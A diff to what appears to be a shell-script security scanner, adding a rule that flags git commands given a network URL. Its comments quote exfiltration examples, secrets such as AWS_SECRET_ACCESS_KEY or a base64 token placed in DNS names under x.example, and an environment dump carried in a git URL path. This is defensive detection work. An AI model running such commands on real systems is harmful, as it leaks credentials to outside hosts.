@@ -101,6 +101,17 @@
  (#set! severity "warn")
  (#set! message "opens an address in the desktop's browser, which fetches it"))
 
+; git ls-remote "https://h/$d/r.git", git clone URL, git fetch, pull or
+; push URL, git archive --remote=URL: git connects to the address and
+; sends whatever the program put in it (an environment dump in the path)
+((command argument: (_) @arg) @n @finding
+ (#resolves-to? @n "git")
+ (#match? @n "^(\\S*/)?git\\s+(.*\\s)?(clone|ls-remote|fetch|pull|push|archive|submodule\\s+add)\\s")
+ (#match? @arg "^[\"']?(--remote=)?(https?|git|ssh|ftps?)://")
+ (#set! id "sh-network")
+ (#set! severity "warn")
+ (#set! message "gives git an address to fetch from or send to over the network"))
+
 ; dig "$AWS_SECRET_ACCESS_KEY.x.example", nslookup "$(printenv TOKEN |
 ; base64).x.example", getent ahosts "$k.x.example", traceroute "$k.x.example"
 ; (each resolves the name first): a secret of the environment sent out as a name to look
